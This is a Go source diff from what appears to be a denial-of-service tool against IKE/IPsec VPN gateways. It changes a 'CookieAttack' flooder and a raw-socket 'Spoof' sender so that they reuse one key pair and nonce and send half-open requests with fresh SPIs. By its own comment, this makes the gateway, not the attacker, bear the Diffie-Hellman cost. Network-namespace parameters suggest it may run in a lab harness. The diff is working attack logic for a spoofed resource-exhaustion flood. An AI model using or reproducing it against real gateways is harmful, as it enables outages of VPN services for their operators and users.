@@ -126,16 +126,23 @@ func (a *CookieAttack) source(ctx context.Context, c *net.UDPConn, rate int) {
 	tick := time.NewTicker(10 * time.Millisecond)
 	defer tick.Stop()
 	var due float64
+	// One key pair and nonce per address, each request a new SPI
+	// (HalfOpenClient.Again): the attacker's cost is the gateway's to bear,
+	// not its own.
+	tmpl, err := ike.NewHalfOpenClient(nil)
+	if err != nil {
+		a.Counts.Errors.Add(1)
+		c.Close()
+		wg.Wait()
+		return
+	}
 	for ctx.Err() == nil {
 		select {
 		case <-ctx.Done():
 		case <-tick.C:
 			due += float64(rate) / 100
 			for ; due >= 1; due-- {
-				hc, err := ike.NewHalfOpenClient(nil)
-				if err != nil {
-					continue
-				}
+				hc := tmpl.Again()
 				mu.Lock()
 				pending[hc.SPIi] = hc
 				mu.Unlock()
@@ -200,15 +207,15 @@ func (s *Spoof) Run(ctx context.Context, ns *netns.NS) error {
 		return err
 	}
 	defer syscall.Close(fd)
-	// Requests are built ahead (distinct SPIs): the spoofer spends its
-	// time sending, not on Diffie-Hellman.
+	// Requests are built ahead (distinct SPIs, one key pair): the spoofer
+	// spends its time sending, not on Diffie-Hellman.
 	reqs := make([][]byte, 512)
+	tmpl, err := ike.NewHalfOpenClient(nil)
+	if err != nil {
+		return err
+	}
 	for i := range reqs {
-		hc, err := ike.NewHalfOpenClient(nil)
-		if err != nil {
-			return err
-		}
-		reqs[i] = hc.Request()
+		reqs[i] = tmpl.Again().Request()
 	}
 	dst := syscall.SockaddrInet4{Addr: s.Target.As4()}
 	tick := time.NewTicker(10 * time.Millisecond)
